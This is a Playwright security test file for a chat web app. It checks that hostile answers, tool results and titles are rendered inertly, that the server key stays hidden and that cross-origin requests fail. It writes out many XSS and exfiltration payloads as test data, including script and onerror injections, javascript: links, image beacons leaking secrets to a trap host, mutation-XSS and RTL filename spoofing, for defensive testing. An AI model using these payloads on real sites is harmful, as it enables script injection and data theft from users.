// Nothing in an answer runs or reaches another server, and no script can read the server's key.

import { afterAll, beforeAll, expect, test } from "vitest";
import type { Browser, Page } from "playwright-core";
import { ask, canary, ended, launch, open, startServer, type TestServer } from "./harness";

const KEY = "a-key-of-this-server";
let browser: Browser;
let server: TestServer;
let trap: Awaited<ReturnType<typeof canary>>;

beforeAll(async () => {
  browser = await launch();
  trap = await canary();
  server = await startServer({ model: "sim/echo:pace=0,chunk=7" });
});
afterAll(async () => {
  await browser.close();
  await server.kill();
  trap.close();
});

/** Return the requests to other servers, and the scripts that ran. */
async function watched(page: Page): Promise<{ requests: string[]; ran: () => Promise<unknown> }> {
  const requests: string[] = [];
  page.on("request", (request) => {
    if (/^(https?|wss?):/.test(request.url()) && !request.url().startsWith(server.url)) requests.push(request.url());
  });
  await page.addInitScript(() => {
    Object.assign(window, { ran: [] });
    window.alert = (text?: unknown) => { (window as unknown as { ran: unknown[] }).ran.push(text); };
  });
  page.on("dialog", (dialog) => {
    requests.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", (popup) => requests.push(`popup ${popup.url()}`));
  return { requests, ran: () => page.evaluate(() => (window as unknown as { ran: unknown[] }).ran) };
}

const hostile = (url: string) => [
  `<script src="${url}/script.js"></script><script>alert(1)</script>`,
  `<img src=x onerror="alert(2)"><img src="${url}/img.png">`,
  `![pixel](${url}/pixel.png?secret=1) ![](${url}/empty.png "title")`,
  `![ref][r] [link][r]\n\n[r]: ${url}/reference.png`,
  `[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [case](JaVaScRiPt:alert(5))`,
  `<svg onload="alert(6)"><image href="${url}/svg.png"/></svg>`,
  `<iframe src="${url}/frame.html"></iframe><object data="${url}/object"></object><embed src="${url}/embed">`,
  `<link rel="stylesheet" href="${url}/style.css"><style>@import "${url}/import.css"; body { background: url(${url}/background.png) }</style>`,
  `<form action="${url}/form"><input autofocus onfocus="alert(7)"><button>Send</button></form>`,
  `<base href="${url}/"><meta http-equiv="refresh" content="0;url=${url}/refresh">`,
  `<video src="${url}/video.mp4" autoplay></video><audio src="${url}/audio.mp3" autoplay></audio>`,
  `<a href="${url}/prefetch" ping="${url}/ping">x</a><link rel="prefetch" href="${url}/prefetched">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(8)>">`,
  "```html\n<script>alert(9)</script>\n```\n\n`<img src=x onerror=alert(10)>`",
  `<https://${"a".repeat(60)}.example/?q=1> ${url}/autolink`,
  `\u001b[31mred\u001b]8;;${url}/terminal\u0007link\u001b]8;;\u0007 \u202Egnp.exe`,
  `&#x202E;gpj.exe &#8294; ![&#x202E;gpj](${url}/entity.png)`,
  `$\\href{javascript:alert(11)}{x}$ $$\\includegraphics{${url}/tex.png}$$`,
  `| a |\n|---|\n| <img src="${url}/cell.png" onerror="alert(12)"> |`,
];

/** Elements that a hostile text could add to the page. */
const MADE = "script, iframe, object, embed, style, link, svg:not(.drawing), form:not(.edit), video, audio, base, meta, img, math a, math [href], mglyph, annotation-xml";

/** Fail if the shown chat has an element or a link that could do harm. Return its text. */
async function harmless(page: Page): Promise<string> {
  expect(await page.locator(".turns").locator(MADE).count()).toBe(0);
  const links = page.locator(".turns a");
  for (const address of await links.evaluateAll((found) => found.map((link) => (link as HTMLAnchorElement).protocol))) expect(["http:", "https:"]).toContain(address);
  for (const relation of await links.evaluateAll((found) => found.map((link) => (link as HTMLAnchorElement).rel))) expect(relation).toContain("noopener noreferrer");
  return (await page.locator(".turns").textContent()) ?? "";
}

test("hostile answers, questions and titles run nothing and reach nothing", async () => {
  const page = await (await browser.newContext()).newPage();
  const { requests, ran } = await watched(page);
  const violations: string[] = [];
  page.on("console", (message) => { if (message.text().includes("Content Security Policy")) violations.push(message.text()); });
  await open(page, server.url);
  const shown: string[] = [];
  let links = 0;
  for (const text of hostile(trap.url)) {
    // The first line of each text is the title of its chat.
    await page.getByRole("button", { name: "New chat" }).click();
    await page.getByText("Ask something", { exact: true }).waitFor();
    await ask(page, text);
    await ended(page);
    // The tokens are shown when the record of the ended turn has been read.
    await page.locator(".turn.assistant .facts", { hasText: "tokens" }).waitFor();
    shown.push(await harmless(page));
    links += await page.locator(".turns a").count();
  }
  expect(links).toBeGreaterThan(3);
  expect(shown.join("")).toContain("␛[31mred");
  expect(shown.join("")).toContain("⟨U+202E⟩gnp.exe");
  expect(shown.join("")).toContain("⟨U+202E⟩gpj.exe ⟨U+2066⟩ 🖼 ⟨U+202E⟩gpj");
  expect(shown.join("")).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  await page.reload();
  await page.locator(".turn.assistant").waitFor();
  expect(shown.at(-1)).toContain(await harmless(page));
  expect(await page.locator(".sidebar").locator("script, img, iframe, style, form").count()).toBe(0);
  expect(await ran()).toEqual([]);
  expect(requests).toEqual([]);
  expect(violations).toEqual([]);
  expect(trap.requests).toEqual([]);
  await page.context().close();
});

test("hostile results of tools, names of tools, sources and titles run nothing and reach nothing", async () => {
  const html = `<img src="${trap.url}/result.png" onerror="alert(20)"><script>alert(21)</script>\u001b[31m\u202E ![](${trap.url}/markdown.png)`;
  const messages = [
    { id: "q1", role: "user", parts: [{ type: "text", text: "Read the page" }] },
    {
      id: "a1",
      role: "assistant",
      parts: [
        { type: "reasoning", text: html, state: "done" },
        { type: "dynamic-tool", toolName: "read_page", toolCallId: "c1", state: "output-available", input: { url: html }, output: { text: html } },
        { type: "text", text: "It says nothing." },
      ],
    },
    { id: "q2", role: "user", parts: [{ type: "text", text: "And now?" }] },
  ];
  const body = JSON.stringify({ id: "hostile", messages, trigger: "submit-message" });
  const answer = await fetch(`${server.url}api/ai-sdk/v7/chat`, { method: "POST", headers: { "Content-Type": "application/json" }, body });
  const chat = /"chatId":"([0-9a-f-]{36})"/.exec(await answer.text())?.[1] ?? "";
  const title = `<img src="${trap.url}/title.png" onerror="alert(22)"> \u001b[31m \u202Egnp.exe`;
  await fetch(`${server.url}api/chats/${chat}`, { method: "PATCH", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ title }) });
  const page = await (await browser.newContext()).newPage();
  const { requests, ran } = await watched(page);
  await open(page, `${server.url}#/chat/${chat}`);
  const card = page.locator(".card", { hasText: "read_page" });
  await card.waitFor();
  await page.locator(".turns").evaluate((turns) => { for (const details of turns.querySelectorAll("details")) details.open = true; });
  expect(await harmless(page)).toContain("result.png");
  const heading = page.getByRole("heading", { level: 1 });
  await expect.poll(() => heading.textContent()).toContain("title.png");
  for (const place of [heading, page.locator(".sidebar")]) {
    expect(await place.locator("img:not(.drawing), script").count()).toBe(0);
    expect(await place.textContent()).not.toContain("\u202e");
  }
  expect(await page.locator(".turns").textContent()).not.toContain("\u202e");
  expect(await page.title()).not.toContain("\u202e");
  expect(await ran()).toEqual([]);
  expect(requests).toEqual([]);
  expect(trap.requests).toEqual([]);
  await page.context().close();
});

test("an image that comes in pieces is never loaded", async () => {
  const own = await startServer({ model: "sim/echo:pace=0.02,chunk=3" });
  const page = await (await browser.newContext()).newPage();
  const { requests } = await watched(page);
  await open(page, own.url);
  await ask(page, `Look: ![a picture](${trap.url}/split.png?q=a-long-secret-that-was-said) and more text after it`);
  await ended(page);
  expect(requests.filter((url) => !url.startsWith(own.url))).toEqual([]);
  expect(trap.requests).toEqual([]);
  await page.context().close();
  await own.kill();
});

test("the key is sent once, and no script or storage has it", async () => {
  const own = await startServer({ model: "sim/echo:pace=0", key: KEY });
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(own.url);
  await page.getByLabel("The server’s key").fill("wrong");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").waitFor();
  const sent: string[] = [];
  page.on("request", (request) => {
    if ((request.postData() ?? "").includes(KEY) || JSON.stringify(request.headers()).includes(KEY)) sent.push(request.url());
  });
  await page.getByLabel("The server’s key").fill(KEY);
  await page.getByLabel("The server’s key").press("Enter");
  await ask(page, "Hello");
  await ended(page);
  await page.reload();
  await page.locator(".turn.assistant").waitFor();
  expect(sent).toEqual([`${own.url}api/session`]);
  const seen = await page.evaluate(() => JSON.stringify([document.cookie, localStorage, sessionStorage, document.documentElement.outerHTML]));
  expect(seen).not.toContain(KEY);
  expect(seen).not.toContain("turnstream_session");
  const cookie = (await context.cookies()).find(({ name }) => name === "turnstream_session");
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByLabel("The server’s key").waitFor();
  await expect.poll(() => page.locator(".turn").count()).toBe(0);
  await page.reload();
  await page.getByLabel("The server’s key").waitFor();
  await context.close();
  await own.kill();
});

test("a page of another origin cannot use the session", async () => {
  const own = await startServer({ model: "sim/echo:pace=0", key: KEY });
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(own.url);
  await page.getByLabel("The server’s key").fill(KEY);
  await page.getByLabel("The server’s key").press("Enter");
  await page.getByLabel("Message").waitFor();
  const other = await context.newPage();
  await other.goto(`${trap.url}/evil.html`);
  const outcomes = await other.evaluate(async (url) => {
    const attempt = async (options: RequestInit) => {
      try {
        return String((await fetch(`${url}api/chats`, { credentials: "include", ...options })).status);
      } catch {
        return "refused";
      }
    };
    const text = { "Content-Type": "text/plain" };
    return [
      await attempt({}),
      await attempt({ method: "POST", body: "{}", headers: text }),
      await attempt({ method: "POST", body: "{}", headers: { "X-Turnstream-Page": "1", "Content-Type": "application/json" } }),
      await attempt({ method: "POST", body: "{}", headers: text, mode: "no-cors" }),
    ];
  }, own.url);
  expect(outcomes.filter((outcome) => outcome.startsWith("2"))).toEqual([]);
  const listed = await page.evaluate(async () => ((await (await fetch("api/chats")).json()) as { chats: unknown[] }).chats.length);
  expect(listed).toBe(0);
  await context.close();
  await own.kill();
});
